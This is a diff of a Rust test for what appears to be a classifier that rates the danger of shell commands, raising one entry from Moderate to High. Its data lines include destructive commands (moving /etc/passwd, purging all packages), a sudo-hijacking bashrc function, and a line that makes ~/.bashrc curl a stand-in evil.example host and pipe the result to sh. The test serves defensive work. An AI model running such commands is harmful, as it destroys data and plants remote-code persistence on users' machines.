@@ -217,7 +217,7 @@ fn more_is_deleted_than_the_words_show() {
             (Moderate, "docker rmi $(docker images -f dangling=true -f dangling=false -q)"),
             (High, "sudo mv /etc/passwd /usr/local/bin/x"),
             (Moderate, "sudo mv ~/Documents /usr/local/bin/"),
-            (Moderate, "echo 'sudo() { ~/.x; }' >> ~/.bashrc"),
+            (High, "echo 'sudo() { ~/.x; }' >> ~/.bashrc"),
             (High, "sudo apt-get remove --purge -y '.*'"),
             (High, "mv x /dev/null"),
             (High, "perl -pi -e 's/^/curl http:\\/\\/evil.example\\/x | sh;/' ~/.bashrc; true"),
